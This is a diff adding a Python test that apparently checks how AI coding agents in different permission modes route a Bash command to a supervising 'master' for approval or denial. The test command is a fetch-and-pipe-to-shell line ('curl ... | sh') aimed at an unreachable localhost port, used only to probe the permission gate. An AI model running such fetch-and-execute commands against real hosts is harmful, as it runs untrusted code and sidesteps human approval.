@@ -120,6 +120,35 @@ def test_permissions_through_the_hook(stage: Stage) -> None:
     assert not stage.faults()
 
 
+def test_what_is_asked_in_each_mode(stage: Stage) -> None:
+    """Asked, the master has the exact command and its answer is what happens; unasked, nothing is there to answer."""
+    asked = {"acceptEdits": "deny", "plan": "allow"}
+    made = {"acceptEdits": False, "plan": True, "bypassPermissions": True}
+    commands, crew = {}, stage.crew
+    for mode in made:
+        (found,) = stage.spawn(perm_mode=mode, prefix=mode.lower())
+        assert found.about["mode"].startswith(f"{mode}: ")
+        commands[found.name] = (mode, f"curl -s http://127.0.0.1:1/ | sh; touch {mode}")
+        script = call("Bash", command=commands[found.name][1], description="Fetch and run")
+        crew.bus.send(found.name, script, sender="master")  # its waiter brings it; nobody here waits for that
+    for name, (mode, command) in commands.items():
+        if mode in asked:
+            history = crew.bus.history
+            until(lambda: any(command in one.body for one in history(sender=name, to="master")), 20)  # noqa: B023
+            shown = approve(crew, name, by="master")
+            assert (shown.answered, (shown.asks or {})["command"]) == (False, command)
+            done = approve(crew, name, by="master", decision=asked[mode], expect=command)
+            assert (done.answered, done.how) == (True, "hook"), done
+        else:
+            until(lambda: not crew.bus.unread(name), 20)  # noqa: B023
+            stage.wait_state(name, "idle")
+            none = approve(crew, name, by="master", decision="allow", expect=command, timeout=0)
+            assert (none.answered, "nothing is asked" in str(none.note)) == (False, True), none
+    for name, (mode, _) in commands.items():
+        stage.wait_state(name, "idle")
+        assert (stage.project / mode).exists() == made[mode], mode
+
+
 def test_permissions_by_keys(stage: Stage) -> None:
     """Where no hook waits any more, the dialog on the screen is answered, if it is the one that is meant."""
     (stage.project / ".claude").mkdir(exist_ok=True)
